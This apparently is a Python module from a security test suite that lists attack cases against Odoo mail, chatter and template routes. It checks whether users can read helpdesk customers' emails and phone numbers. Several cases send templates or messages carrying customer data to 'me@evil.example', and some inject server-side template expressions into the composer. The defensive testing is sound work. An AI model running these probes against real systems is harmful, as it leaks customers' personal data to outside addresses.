"""The routes of mail and discuss, and what the chatter says."""

from .suite import EVERYBODY, INTERNAL, Attack, each

TICKET = "helpdesk.ticket"
REQUESTS = (
    "activities", "attachments", "contact_fields", "followers", "scheduledMessages",
    "suggestedRecipients", "display_name",
)  # fmt: skip


def _thread(model, key, *requests, **params):
    def call(s, w):
        s.json("/mail/data", fetch_params=[["mail.thread", {
            "thread_model": model, "thread_id": getattr(w, key),
            "request_list": list(requests), **params,
        }]])  # fmt: skip

    return call


def _data(*fetch_params, route="/mail/data"):
    return lambda s, w: s.json(route, fetch_params=list(fetch_params))


def _card(model, key):
    return lambda s, w: s.json(
        "/mail/data",
        fetch_params=[["avatar_card", {"id": getattr(w, key), "model": model}]],
    )


def _posted(**data):
    """A message is written; the answer carries its author, recipients and thread."""

    def call(s, w):
        post = {
            key: value(w) if callable(value) else value for key, value in data.items()
        }
        s.json(
            "/mail/message/post", thread_model=TICKET, thread_id=w.ticket,
            post_data={"body": "Hello", "subtype_xmlid": "mail.mt_comment", **post},
        )  # fmt: skip

    return call


def _edited(s, w):
    answer = s.json(
        "/mail/message/post", thread_model=TICKET, thread_id=w.ticket,
        post_data={"body": "Hello", "partner_ids": [w.partner]},
    )  # fmt: skip
    s.json(
        "/mail/message/update_content", message_id=answer["message_id"],
        update_data={"body": "Hello again", "partner_ids": [w.partner]},
    )  # fmt: skip
    s.call("mail.message", "read", [answer["message_id"]])


def _messages(model, key, **params):
    return lambda s, w: s.json(
        "/mail/thread/messages", thread_model=model, thread_id=getattr(w, key), **params
    )


def _recipients(s, w):
    s.json("/mail/thread/recipients", thread_model=TICKET, thread_id=w.ticket)
    s.json(
        "/mail/thread/recipients", thread_model=TICKET, thread_id=w.ticket,
        message_id=w.letter,
    )  # fmt: skip


def _of_stranger(s, w):
    s.json("/mail/thread/recipients", thread_model=TICKET, thread_id=w.by_stranger)


def _suggested(key, partner="partner"):
    return lambda s, w: s.json(
        "/mail/thread/recipients/get_suggested_recipients", thread_model=TICKET,
        thread_id=getattr(w, key), partner_ids=[getattr(w, partner)],
    )  # fmt: skip


def _from_email(s, w):
    s.json(
        "/mail/partner/from_email", thread_model=TICKET, thread_id=w.ticket,
        emails=["Anna Customer"],
    )  # fmt: skip


def _subscribed(s, w):
    for route in ("/mail/thread/subscribe", "/mail/thread/unsubscribe"):
        s.json(route, res_model=TICKET, res_id=w.ticket, partner_ids=[w.invited])


def _subscription(s, w):
    domain = [("res_model", "=", TICKET), ("res_id", "=", w.ticket)]
    for id_ in s.call("mail.followers", "search", None, domain):
        s.json("/mail/read_subscription_data", follower_id=id_)


def _followers(s, w):
    s.call(TICKET, "message_get_followers", [w.ticket])
    s.call(TICKET, "message_get_followers", [w.ticket], filter_recipients=True)
    s.call("res.partner", "message_get_followers", [w.partner])


def _chatter(s, w):
    s.json("/mail/chatter_fetch", thread_model=TICKET, thread_id=w.ticket)
    s.json(
        "/mail/chatter_fetch", thread_model=TICKET, thread_id=w.ticket,
        token=w.ticket_token,
    )  # fmt: skip


def _chatter_init(s, w):
    s.json("/portal/chatter_init", thread_model=TICKET, thread_id=w.ticket)
    s.json(
        "/portal/chatter_init", thread_model=TICKET, thread_id=w.ticket,
        token=w.ticket_token, pid=w.partner,
    )  # fmt: skip


def _formatted(s, w):
    s.call("mail.message", "portal_message_format", [w.letter, w.answer])
    options = {"rating_include": True, "token": w.ticket_token}
    s.call("mail.message", "portal_message_format", [w.letter], options=options)


def _mentions(method, term):
    return lambda s, w: s.call("res.partner", method, None, term)


def _group_chat(s, w):
    answer = s.json("/mail/action", fetch_params=[
        ["/discuss/create_group", {"partners_to": [w.partner], "name": "x"}, 1],
    ])  # fmt: skip
    channel = answer["discuss.channel"][0]["id"]
    s.call("discuss.channel", "add_members", [channel], partner_ids=[w.invited])
    s.json("/discuss/channel/members", channel_id=channel, known_member_ids=[])
    s.call("discuss.channel", "execute_command_who", [channel])
    domain = [("channel_id", "=", channel)]
    fields = ["display_name", "partner_id"]
    s.call(
        "discuss.channel.member", "search_read", None, domain, fields,
        context={"show_email": True, "formatted_display_name": True},
    )  # fmt: skip
    s.call("res.partner", "get_mention_suggestions_from_channel", None, channel, "Cust")
    s.call("res.partner", "search_for_channel_invite", None, "Cust", channel_id=channel)


def _chat(s, w):
    s.json("/mail/action", fetch_params=[
        ["/discuss/get_or_create_chat", {"partners_to": [w.partner]}, 1],
    ])  # fmt: skip


def _composer(s, w):
    context = {
        "active_model": TICKET, "active_ids": [w.ticket], "default_model": TICKET,
        "default_res_ids": [w.ticket], "default_partner_ids": [w.partner],
    }  # fmt: skip
    spec = {
        "partner_ids": {"fields": {"display_name": {}, "email": {}}}, "body": {},
        "subject": {}, "email_from": {}, "reply_to": {},
    }  # fmt: skip
    fields = list(spec)
    s.call("mail.compose.message", "default_get", None, fields, context=context)
    values = {"composition_mode": "comment", "body": "<p>Hello</p>"}
    (saved,) = s.call(
        "mail.compose.message", "web_save", [], values, spec, context=context
    )
    s.call("mail.compose.message", "action_send_mail", [saved["id"]])
    s.json("/mail/thread/messages", thread_model=TICKET, thread_id=w.ticket)


def _rendered(words):
    """The composer renders what a template may render, for many tickets at once."""

    def call(s, w):
        values = {
            "composition_mode": "mass_mail", "model": TICKET,
            "res_ids": repr([w.ticket]),
            "subject": words, "body": words, "auto_delete": False,
        }  # fmt: skip
        wizard = s.call("mail.compose.message", "create", None, values)
        s.call("mail.compose.message", "action_send_mail", [wizard])
        s.json("/mail/thread/messages", thread_model=TICKET, thread_id=w.ticket)

    return Attack(f"composer renders {words}", call, INTERNAL)


def _spied(thread):
    """Whoever gets the same mail is told the others: so be one of them."""

    def call(s, w):
        model, id_ = thread(w)
        post = {
            "body": "Hello", "subtype_xmlid": "mail.mt_comment",
            "partner_ids": [w.partner], "partner_emails": ["me@evil.example"],
        }  # fmt: skip
        s.json("/mail/message/post", thread_model=model, thread_id=id_, post_data=post)
        s.call(
            model, "message_post", [id_], body="Hello", partner_ids=[w.partner],
            subtype_xmlid="mail.mt_comment", outgoing_email_to="me@evil.example",
        )  # fmt: skip

    return call


def _template(s, w):
    """A letter to a customer, sent to the attacker instead."""
    templates = s.call("mail.template", "search", None, [("model", "=", "res.users")])
    values = {"email_to": "me@evil.example", "recipient_ids": []}
    each(
        *(
            lambda t=t: s.call(
                "mail.template", "send_mail", [t], w.user, email_values=values
            )
            for t in templates
        )
    )


def _own_template(s, w):
    domain = [("model", "=", TICKET)]
    (template, *_) = s.call("mail.template", "search_read", None, domain, ["model_id"])
    values = {
        "name": "x", "model_id": template["model_id"][0], "email_to": "me@evil.example",
        "subject": "{{ object.partner_id.phone }}",
        "body_html": '<p t-out="object.partner_email"/>',
    }  # fmt: skip
    template = s.call("mail.template", "create", None, values)
    s.call("mail.template", "send_mail", [template], w.ticket)


def _preview(s, w):
    domain = [("model", "=", "res.users")]
    spec = dict.fromkeys(("body_html", "email_to", "subject", "email_from"), {})
    spec |= {"partner_ids": {"fields": {"display_name": {}}}}
    reference = f"res.users,{w.user}"
    each(
        *(
            lambda t=t: s.call(
                "mail.template.preview", "web_save", [],
                {"mail_template_id": t, "resource_ref": reference}, spec,
            )
            for t in s.call("mail.template", "search", None, domain)
        )
    )  # fmt: skip


def _with_source(source):
    """Chatter text made from a view of the client's choice."""

    def call(s, w):
        for model, key in (("res.partner", "partner"), (TICKET, "ticket")):
            s.call(
                model, "message_post_with_source", [getattr(w, key)], source,
                render_values={"options": {"fields": ["email", "phone"]}},
            )  # fmt: skip
            s.json(
                "/mail/thread/messages", thread_model=model, thread_id=getattr(w, key)
            )

    return Attack(f"message from view {source}", call)


def _sms(s, w):
    for model, key in (("res.partner", "partner"), (TICKET, "ticket")):
        context = {
            "active_model": model, "active_id": getattr(w, key),
            "default_composition_mode": "comment", "default_body": "Hello",
            "default_res_model": model, "default_res_id": getattr(w, key),
        }  # fmt: skip
        spec = {
            "recipient_single_number": {}, "recipient_single_number_itf": {},
            "numbers": {}, "recipient_single_description": {}, "sanitized_numbers": {},
        }  # fmt: skip
        s.call("sms.composer", "web_save", [], {"body": "Hello"}, spec, context=context)


def _letter(s, w):
    values = {"partner_id": w.partner, "model": TICKET, "res_id": w.ticket}
    spec = {name: {} for name in ("street", "street2", "zip", "display_name")}
    s.call("snailmail.letter", "web_save", [], values, spec)


def _scheduled(s, w):
    values = {
        "model": TICKET, "res_id": w.ticket, "body": "Hello",
        "partner_ids": [w.partner], "scheduled_date": "2099-01-01 00:00:00",
    }  # fmt: skip
    s.call("mail.scheduled.message", "create", None, values)
    _thread(TICKET, "ticket", "scheduledMessages")(s, w)


def _activity(s, w):
    s.call(TICKET, "activity_schedule", [w.ticket], summary="Ring", user_id=w.my_user)
    ids = s.call("mail.activity", "search", None, [("res_id", "=", w.ticket)])
    s.call("mail.activity", "activity_format", ids)
    s.call("mail.activity", "get_activity_data", None, TICKET, [("id", "=", w.ticket)])
    s.json("/mail/data", fetch_params=["systray_get_activities"])


def _blacklist(s, w):
    for method in ("mail_action_blacklist_remove", "phone_action_blacklist_remove"):
        s.call("res.partner", method, [w.partner])


MAIL = [
    *(Attack(f"thread {r}", _thread(TICKET, "ticket", r), EVERYBODY) for r in REQUESTS),
    *(
        Attack(f"thread of contact {r}", _thread("res.partner", "partner", r))
        for r in ("suggestedRecipients",)
    ),
    Attack("thread of a stranger", _thread(TICKET, "by_stranger", *REQUESTS)),
    Attack("failures", _data("failures")),
    Attack("failures, action", _data("failures", route="/mail/action")),
    Attack("init_messaging", _data("init_messaging", "channels_as_member"), EVERYBODY),
    Attack("systray", _data("systray_get_activities", "mail.canned.response")),
    Attack("avatar card of contact", _card("res.partner", "partner")),
    Attack("avatar card of user", _card("res.users", "user")),
    Attack("messages of ticket", _messages(TICKET, "ticket")),
    Attack("messages of stranger's ticket", _messages(TICKET, "by_stranger")),
    Attack("messages of contact", _messages("res.partner", "partner")),
    Attack("messages of invited", _messages("res.partner", "invited")),
    Attack("notified inbox", lambda s, w: s.json("/mail/inbox/messages")),
    Attack("history", lambda s, w: s.json("/mail/history/messages")),
    Attack("recipients", _recipients),
    Attack("recipients of a stranger", _of_stranger),
    Attack("suggested recipients", _suggested("ticket")),
    Attack("suggested recipients of a stranger", _suggested("by_stranger", "nameless")),
    Attack("partner from a name", _from_email),
    Attack("subscribe and unsubscribe", _subscribed),
    Attack("subscription data", _subscription),
    Attack("followers by method", _followers),
    Attack("portal chatter", _chatter, EVERYBODY),
    Attack("portal chatter init", _chatter_init, EVERYBODY),
    Attack("portal_message_format", _formatted),
    Attack("post", _posted()),
    Attack("post to the customer", _posted(partner_ids=lambda w: [w.partner])),
    Attack("post to a nameless one", _posted(partner_ids=lambda w: [w.nameless])),
    Attack("post to a new address", _posted(partner_emails=["new@other.example"])),
    *(
        Attack(f"mail to me beside the customer, {name}", _spied(thread), INTERNAL)
        for name, thread in (
            ("ticket", lambda w: (TICKET, w.ticket)),
            ("contact", lambda w: ("res.partner", w.spare())),
        )
    ),
    Attack("edit a message", _edited),
    *(
        Attack(f"{method} {term or 'all'}", _mentions(method, term))
        for method in ("get_mention_suggestions",)
        for term in ("", "Customer")
    ),
    Attack("discuss search", lambda s, w: s.json("/discuss/search", term="Customer")),
    Attack("group chat with the customer", _group_chat),
    Attack("chat with the customer", _chat),
    Attack("composer", _composer, INTERNAL),
    *map(
        _rendered,
        (
            "{{ object.partner_email }}", "{{ object.sudo().partner_id.email }}",
            '<t t-out="object.partner_id.phone"/>',
            '<p t-field="object.partner_email"/>',
            "{{ object.partner_id }}",
        ),
    ),
    Attack("template to the attacker", _template, INTERNAL),
    Attack("template of one's own", _own_template, INTERNAL),
    Attack("template preview", _preview, INTERNAL),
    *map(
        _with_source,
        (
            "base.contact", "mail.message_user_assigned", "mail.message_origin_link",
        ),
    ),
    Attack("text message composer", _sms, INTERNAL),
    Attack("letter by post", _letter, INTERNAL),
    Attack("scheduled message", _scheduled, INTERNAL),
    Attack("activities", _activity, INTERNAL),
    Attack("blacklist buttons", _blacklist, INTERNAL),
]  # fmt: skip

FAMILIES = {"mail": MAIL}
